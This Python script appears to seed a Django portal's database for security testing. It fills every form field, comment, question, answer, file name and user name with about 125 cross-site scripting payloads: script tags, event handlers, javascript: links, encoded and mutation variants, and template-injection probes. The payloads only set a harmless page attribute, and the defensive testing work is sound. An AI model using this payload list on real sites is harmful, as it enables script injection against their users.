"""Hostile texts in every field, put into the running site's database by the verbs themselves.

Run as a program with the site's VAR_DIR and the name of a file: there it writes where each text can
be met.
"""

import itertools
import json
import os
import sys
from pathlib import Path

# What would run, if anything obeyed it: each tries to leave a mark on the document.
ACT = "document.documentElement.dataset.hit=1"
_TAGS = [
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<details open ontoggle={act}>x</details>",
    "<body onload={act}>",
    "<input autofocus onfocus={act}>",
    "<video><source onerror={act}></video>",
    "<iframe srcdoc='<script>parent.{act}</script>'></iframe>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={act}>x</b>",
]
_AROUND = [
    "{tag}",
    "\"'>{tag}",
    "</title>{tag}",
    "</textarea>{tag}",
    "<!--{tag}-->{tag}",
    "`{tag}`",
    "```\n{tag}\n```",
    "> {tag}",
    "[x]({tag})",
]
_LINKS = [
    "[klik](javascript:{act})",
    "[klik](JaVaScRiPt:{act})",
    "[klik](java\tscript:{act})",
    "[klik](&#106;avascript:{act})",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "javascript:{act}",
    "<javascript:{act}>",
    "![x](x){{onerror={act}}}",
    '[x](https://a.example "onmouseover={act}")',
    "<a href=javascript:{act}>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={act}>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={act}>'>",
    "<template><img src=x onerror={act}></template>",
    "<base href=//ond.example/><script src=x.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<link rel=stylesheet href=data:,*{{}} onload={act}>",
    "<object data=javascript:{act}></object>",
    "<embed src=javascript:{act}>",
    "<form action=javascript:{act}><button autofocus>x</button></form>",
    "{{{{ 7|add:'7' }}}} {{% debug %}}",
    "${{{act}}}",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "%3Cscript%3E{act}%3C/script%3E",
    "＜script＞{act}＜/script＞",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<img/src=x/onerror={act}//",
    "<a autofocus onfocus={act} href=x>x",
    "<select autofocus onfocus={act}><option>x",
    "<marquee onstart={act}>x</marquee>",
    "<audio src=x onerror={act}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={act}/>#x'/>",
    "<x contenteditable onblur={act}>x</x>",
    "<p style=\"background:url('javascript:{act}')\">x</p>",
    "]]><script>{act}</script>",
]
PAYLOADS = [
    template.format(act=ACT)
    for template in (
        *(around.format(tag=tag) for tag, around in itertools.product(_TAGS, _AROUND)),
        *_LINKS,
    )
]
_METHOD = (
    "title", "target_group", "link", "contact", "problem", "practice", "who_and_time",
    "preconditions", "results", "what_failed", "advice_smaller", "advice_larger",
)  # fmt: skip
_REPORT = ("title", "publisher", "target_group", "link", "contact", "summary")
_LIMITS = {"title": 200, "target_group": 300, "publisher": 200, "contact": 300, "link": 500}
# Beside the fields of the forms: the editors' comment, the story of an adoption, a question, its
# answer, the name of a file, and the name of a person.
FIELDS = len(_METHOD) + len(_REPORT) + 6


def make() -> list[dict[str, str]]:
    """Two submissions for each text, with it in all their fields, and what others say of them."""
    from datetime import timedelta
    from uuid import uuid4

    from django.utils import timezone

    from portal.models import User
    from submissions import signed
    from submissions.actions import adopting, asking, reviewing, sharing
    from submissions.actions.sharing import Content
    from submissions.cautions import cautions_of
    from submissions.models import Attachment, Kind

    now = timezone.now()
    users = {user.email.split("@")[0]: user for user in User.objects.all()}
    author, editor, reader = (users[name] for name in ("hedensted", "redaktion", "lemvig"))
    met = []
    for number, text in enumerate(PAYLOADS):
        for kind, names in ((Kind.METHOD, _METHOD), (Kind.REPORT, _REPORT)):
            fields = {name: text[: _LIMITS.get(name, 10_000)] for name in names}
            fields["title"] = f"Prøve {number} {kind} {fields['title']}"[:200]
            file = Attachment.objects.create(
                sha256="0" * 64, name=f"{text[:140]}.pdf", content_type="application/pdf",
                size=1, uploaded_at=now, public_sha256="0" * 64,
            )  # fmt: skip
            made = sharing.submit_new(
                kind=kind, key=uuid4(), by=author, now=now,
                content=Content(
                    {**fields, "municipality_id": "0766"}, attachments=(file,)
                ),
            )  # fmt: skip
            reviewing.publish(
                submission=made,
                version=made.version,
                by=editor,
                now=now,
                comment=text,
                accepted=[each.key for each in cautions_of(made)],
            )
            if kind == Kind.METHOD:
                taken = adopting.declare(
                    submission=made, since=adopting.Month(2026, 1), by=reader, now=now
                )
                adopting.tell(
                    adoption=taken, version=taken.version, experience="worked", story=text,
                    by=reader, now=now,
                )  # fmt: skip
                question = asking.ask(
                    submission=made,
                    text=text,
                    by=reader,
                    now=now - timedelta(days=2 * (len(PAYLOADS) - number)),
                )
                asking.answer(question=question, text=text, now=now)
            met.append({"slug": made.slug, "pk": str(made.pk)})
            if kind == Kind.METHOD:
                met[-1]["answer"] = signed.answer_path(question, question.sent_to[0])
    User.objects.filter(pk=author.pk).update(first_name=ACT[:10], last_name="<img src=x onerror=a>")
    return met


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "portal.settings")
    import django

    django.setup()
    Path(sys.argv[1]).write_text(json.dumps(make()), encoding="utf-8")
